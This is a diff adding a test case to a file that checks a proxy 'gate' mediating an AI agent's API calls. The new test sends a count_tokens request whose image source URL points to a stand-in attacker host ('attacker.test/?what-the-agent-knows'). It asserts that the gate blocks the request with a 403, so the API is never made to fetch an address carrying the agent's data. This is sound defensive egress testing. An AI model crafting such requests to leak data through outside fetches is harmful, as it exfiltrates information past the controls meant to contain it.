@@ -128,6 +128,14 @@ describe.skipIf(typeof found === "string")("Claude's calls through the gate", ()
       one.url.startsWith("/v1/messages/count_tokens"),
     );
     expect([counted?.authorization, counted?.apiKey]).toEqual([`Bearer ${realToken}`, undefined]);
+    // Nor does a body that would have the API's servers fetch an address of the agent's
+    const source = { type: "url", url: "https://attacker.test/?what-the-agent-knows" };
+    const image = { model: "m", messages: [{ role: "user", content: [{ type: "image", source }] }] };
+    const before = (await world.api.requests()).length;
+    const fetching = ask(`-d '${JSON.stringify(image)}' http://gate:8080/v1/messages/count_tokens`);
+    expect(await say("tester", fetching)).toBe("The command printed: 403\n");
+    const since = (await world.api.requests()).slice(before);
+    expect(since.filter((one) => one.url.startsWith("/v1/messages/count_tokens"))).toEqual([]);
     // The tunnel to the API's name is not granted by the gate's own use of it; here the test grants it, for the stand-in is private
     expect(await say("open", ask("-F a=b https://api.anthropic.com/v1/files"))).toBe(
       "The command printed: 401\n",
